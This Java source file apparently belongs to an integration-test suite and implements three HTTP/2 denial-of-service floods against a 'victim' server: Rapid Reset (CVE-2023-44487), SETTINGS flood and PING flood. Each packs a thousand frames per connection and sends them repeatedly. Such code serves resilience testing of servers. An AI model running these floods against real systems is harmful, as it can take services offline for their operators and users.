package io.github.reuseport.it.abuse;

import io.github.reuseport.it.sample.Http2Frames;

/**
 * Attacks by frames of HTTP/2. Each connection has a thousand of them, and another one
 * comes after it, because servers close such connections.
 */
final class Http2Attacks {

	private static final int FRAMES = 1000;

	private Http2Attacks() {
	}

	/**
	 * Streams that are reset as soon as they are opened (CVE-2023-44487).
	 * @param victim who is attacked
	 * @param strength how many connections, and in which time
	 */
	static void rapidReset(Victim victim, Strength strength) throws Exception {
		Http2Frames frames = Http2Frames.begin();
		for (int i = 0; i < FRAMES; i++) {
			frames.get(2 * i + 1, "/hello").reset(2 * i + 1);
		}
		flood(victim, strength, frames);
	}

	/**
	 * Settings, each of which is to be acknowledged (CVE-2019-9515).
	 * @param victim who is attacked
	 * @param strength how many connections, and in which time
	 */
	static void settings(Victim victim, Strength strength) throws Exception {
		Http2Frames frames = Http2Frames.begin();
		for (int i = 0; i < FRAMES; i++) {
			frames.frame(Http2Frames.SETTINGS, 0, 0);
		}
		flood(victim, strength, frames);
	}

	/**
	 * PING frames, each of which is to be answered (CVE-2019-9512).
	 * @param victim who is attacked
	 * @param strength how many connections, and in which time
	 */
	static void pings(Victim victim, Strength strength) throws Exception {
		Http2Frames frames = Http2Frames.begin();
		for (int i = 0; i < FRAMES; i++) {
			frames.frame(Http2Frames.PING, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8);
		}
		flood(victim, strength, frames);
	}

	private static void flood(Victim victim, Strength strength, Http2Frames frames) throws Exception {
		byte[] bytes = frames.bytes();
		try (Hoard hoard = new Hoard(victim)) {
			strength.pace((i) -> hoard.add(bytes));
		}
	}

}
